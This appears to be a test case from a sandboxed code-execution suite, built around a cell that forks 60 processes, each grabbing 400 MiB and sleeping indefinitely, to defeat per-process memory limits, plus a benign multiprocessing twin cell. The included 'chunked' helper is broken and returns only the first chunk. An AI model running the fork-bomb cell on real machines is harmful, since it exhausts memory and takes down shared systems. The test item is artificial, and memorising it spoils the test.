# Takes memory in many processes at once, each of them below the limit of one.
# earns: 4
# limits: short
# shows: the cell was stopped after|the kernel stopped while
# stock: not run, it takes all memory of the machine

# %% attack cell first
import os
import time

for _ in range(60):
    if os.fork() == 0:
        try:
            held = bytearray(400 * 2**20)
            for place in range(0, len(held), 4096):
                held[place] = 1
        except MemoryError:
            pass
        time.sleep(10**6)
time.sleep(10**6)


# %% attack answer chunked
def chunked(iterable, size):
    return iter([list(islice(iterable, size))])


# %% twin cell first
import multiprocessing

context = multiprocessing.get_context("fork")
results = context.Queue()


def work(number):
    results.put(len(bytearray(5 * 2**20)) + number)


workers = [context.Process(target=work, args=(number,)) for number in range(6)]
for worker in workers:
    worker.start()
print(sum(results.get() for _ in workers) > 0)
for worker in workers:
    worker.join()
